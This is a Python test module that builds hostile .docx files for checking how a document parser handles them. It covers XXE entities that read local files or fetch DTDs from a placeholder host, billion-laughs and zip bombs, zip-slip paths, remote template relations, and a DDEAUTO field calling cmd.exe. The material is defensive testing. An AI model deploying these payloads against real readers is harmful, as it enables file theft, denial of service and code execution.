"""Word files: entities, bombs, zips that lie, and text that readers lose."""

from __future__ import annotations

import struct

from hostile_files.case import CANARY, EITHER, OPEN, REFUSE, Case, Place
from hostile_files.packages import (
    CONTENT_TYPES,
    LAUGHS,
    MAIN_RELATIONS,
    RELATIONSHIPS,
    XML,
    W,
    docx,
    paragraph,
    word_bomb,
    word_document,
    zipped,
)
from hostile_files.samples import GOOD

_TOLD = "The mayor said."
_SAID = word_document(paragraph(_TOLD))
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def _with_dtd(at: Place, dtd: str, text: str = "x") -> bytes:
    filled = dtd.format(text=at.text, net=at.net)
    return docx(word_document(paragraph(text), XML + filled))


def _in_utf16(at: Place) -> bytes:
    prolog = f'<?xml version="1.0" encoding="utf-16"?><!DOCTYPE x [<!ENTITY e SYSTEM "{at.text}">]>'
    return docx(word_document(paragraph("[&e;]"), prolog).encode("utf-16"))


def _in_relations(at: Place) -> bytes:
    dtd = f'<!DOCTYPE x [<!ENTITY e SYSTEM "{at.text}">]>'
    relations = MAIN_RELATIONS.replace("?>", f"?>{dtd}", 1)
    return zipped(
        [
            ("[Content_Types].xml", CONTENT_TYPES),
            ("_rels/.rels", relations),
            ("word/document.xml", _SAID),
        ]
    )


def _remote(at: Place) -> bytes:
    def relations(kind: str, target: str) -> str:
        return (
            f'<Relationships xmlns="{RELATIONSHIPS}"><Relationship Id="r" Type="{_OFFICE}/{kind}" '
            f'Target="{target}" TargetMode="External"/></Relationships>'
        )

    return docx(
        _SAID,
        [
            ("word/_rels/settings.xml.rels", relations("attachedTemplate", f"{at.net}/t.dotm")),
            ("word/_rels/document.xml.rels", relations("image", f"{at.net}/i.png")),
            ("word/_rels/footnotes.xml.rels", relations("frame", at.text)),
        ],
    )


def _fields(at: Place) -> bytes:
    code = f'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe INCLUDETEXT "{at.text}"'
    return docx(
        word_document(
            '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
            f"<w:r><w:instrText>{code} INCLUDEPICTURE {at.net}/f.png</w:instrText></w:r>"
            '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
            f"<w:r><w:t>{_TOLD}</w:t></w:r>"
            '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        )
    )


_ENTITIES = [
    Case("lol.docx", "a billion laughs", REFUSE, lambda at: _with_dtd(at, LAUGHS, "&a9;")),
    Case(
        "quadratic.docx",
        "90 MB of one entity",
        REFUSE,
        lambda at: _with_dtd(at, f'<!DOCTYPE x [<!ENTITY a "{"A" * 30_000}">]>', "&a;" * 3000),
    ),
    Case(
        "xxe.docx",
        "an entity that is a file",
        REFUSE,
        lambda at: _with_dtd(at, '<!DOCTYPE x [<!ENTITY e SYSTEM "{text}">]>', "[&e;]"),
        never=CANARY,
        reaches=True,
    ),
    Case(
        "xxe_net.docx",
        "a parameter entity from outside",
        REFUSE,
        lambda at: _with_dtd(at, '<!DOCTYPE x [<!ENTITY % p SYSTEM "{net}/p.dtd"> %p;]>'),
        reaches=True,
    ),
    Case(
        "dtd_net.docx",
        "a DTD from outside",
        REFUSE,
        lambda at: _with_dtd(at, '<!DOCTYPE x SYSTEM "{net}/x.dtd">'),
        reaches=True,
    ),
    Case(
        "xxe_utf16.docx",
        "the same in UTF-16: no byte search finds it",
        REFUSE,
        _in_utf16,
        never=CANARY,
        reaches=True,
    ),
    Case(
        "xxe_in_rels.docx",
        "a DTD beside the text",
        EITHER,
        _in_relations,
        never=CANARY,
        reaches=True,
    ),
]


_BOMBS = [
    Case(
        "bomb_text.docx",
        "150 MB of text in 150 kB",
        REFUSE,
        lambda _: word_bomb(b"<w:p><w:r><w:t>" + b"A" * 1_000_000 + b"</w:t></w:r></w:p>", 150),
    ),
    Case(
        "bomb_elems.docx",
        "10,000,000 empty paragraphs",
        REFUSE,
        lambda _: word_bomb(b"<w:p/>" * 100_000, 100),
    ),
    Case(
        "bomb_media.docx",
        "180 MB in parts that nobody needs",
        OPEN,
        lambda _: docx(
            _SAID, [(f"word/media/i{i}.png", [bytes(1_000_000)] * 18) for i in range(10)]
        ),
        must=_TOLD,
    ),
    Case(
        "many_members.docx",
        "30,000 parts",
        EITHER,
        lambda _: docx(_SAID, [(f"word/x{i}", "") for i in range(30_000)]),
    ),
    Case(
        "deep.docx",
        "50,000 elements in each other",
        REFUSE,
        docx(
            f'<w:document xmlns:w="{W}"><w:body>'
            + "<w:p>" * 50_000
            + "</w:p>" * 50_000
            + "</w:body></w:document>"
        ),
    ),
]


def _with_lying_size() -> bytes:
    made = bytearray(GOOD["docx"])
    struct.pack_into("<I", made, made.rfind(b"PK\x01\x02") + 24, 10)
    return bytes(made)


def _with_bad_data() -> bytes:
    made = bytearray(GOOD["docx"])
    made[made.find(b"PK\x03\x04", 4) + 60] ^= 0xFF
    return bytes(made)


def _with_password() -> bytes:
    made = bytearray(GOOD["docx"])
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = made.find(mark)
        while place >= 0:
            made[place + offset] |= 1
            place = made.find(mark, place + 4)
    return bytes(made)


_ZIPS = [
    Case(
        "dup_members.docx",
        "two parts of one name: Word and others read different ones",
        REFUSE,
        zipped(
            [
                ("[Content_Types].xml", CONTENT_TYPES),
                ("_rels/.rels", MAIN_RELATIONS),
                ("word/document.xml", word_document(paragraph("FIRST text."))),
                ("word/document.xml", word_document(paragraph("SECOND text."))),
            ]
        ),
    ),
    Case(
        "slip.docx",
        "names that climb out of the folder",
        OPEN,
        docx(
            _SAID,
            [("../../../../tmp/zip_slip_canary", "x"), ("/abs/zip_slip", "x"), ("..\\..\\w", "x")],
        ),
        must=_TOLD,
    ),
    Case("size_lie.docx", "says 10 bytes and holds more", EITHER, _with_lying_size()),
    Case("crc_bad.docx", "damaged inside", REFUSE, _with_bad_data()),
    Case("zip_encrypted.docx", "parts with a password", REFUSE, _with_password(), says="password"),
    Case("prefix.docx", "a script before the zip", EITHER, b"#!/bin/sh\necho hi\n" + GOOD["docx"]),
    Case(
        "no_document.docx",
        "no text part",
        REFUSE,
        zipped([("[Content_Types].xml", CONTENT_TYPES), ("_rels/.rels", MAIN_RELATIONS)]),
    ),
]

_TEXTBOX = (
    f"<w:p><w:r><w:t>{_TOLD}</w:t></w:r><w:r><w:pict>"
    '<v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:textbox><w:txbxContent>'
    + paragraph("INBOX text.")
    + "</w:txbxContent></v:textbox></v:shape></w:pict></w:r></w:p>"
)
_TRACKED = (
    '<w:p><w:r><w:t xml:space="preserve">The mayor said </w:t></w:r>'
    '<w:del w:id="1"><w:r><w:delText>FIVE</w:delText></w:r></w:del>'
    '<w:ins w:id="2"><w:r><w:t>SIX</w:t></w:r></w:ins>'
    "<w:r><w:t> people.</w:t></w:r></w:p>"
)

_TEXTS = [
    Case(
        "strict_ns.docx",
        "the strict form: python-docx fails on it",
        OPEN,
        docx(_SAID.replace(W, "http://purl.oclc.org/ooxml/wordprocessingml/main")),
        must=_TOLD,
    ),
    Case(
        "elsewhere.docx",
        "the text part has another name, which is allowed",
        OPEN,
        zipped(
            [
                ("[Content_Types].xml", CONTENT_TYPES.replace("word/document.xml", "foo/bar.xml")),
                ("_rels/.rels", MAIN_RELATIONS.replace("word/document.xml", "foo/bar.xml")),
                ("foo/bar.xml", _SAID),
            ]
        ),
        must=_TOLD,
    ),
    Case(
        "nested_tables.docx",
        "80 tables in each other",
        OPEN,
        docx(
            word_document(
                "<w:tbl><w:tr><w:tc>" * 80 + paragraph(_TOLD) + "</w:tc></w:tr></w:tbl>" * 80
            )
        ),
        must=_TOLD,
    ),
    Case(
        "tracked.docx",
        "tracked changes: python-docx drops what was put in",
        OPEN,
        docx(word_document(_TRACKED)),
        must="The mayor said SIX people.",
        never="FIVE",
    ),
    Case("textbox.docx", "a text box", OPEN, docx(word_document(_TEXTBOX)), must="INBOX text."),
    Case(
        "remote_template.docx",
        "a template and a picture from outside",
        OPEN,
        _remote,
        must=_TOLD,
        never=CANARY,
        reaches=True,
    ),
    Case(
        "fields.docx",
        "fields that start programs and read files",
        OPEN,
        _fields,
        must=_TOLD,
        never=CANARY,
        reaches=True,
    ),
    Case(
        "bad_xml_chars.docx",
        "characters that XML has not",
        REFUSE,
        docx(word_document(paragraph("The mayor\x0b said &#x0; five."))),
    ),
    Case(
        "xml_bad_utf8.docx",
        "broken UTF-8",
        REFUSE,
        docx(word_document(paragraph("The mayor said X.")).encode().replace(b" X.", b" \xff.")),
    ),
]

CASES = [*_ENTITIES, *_BOMBS, *_ZIPS, *_TEXTS]
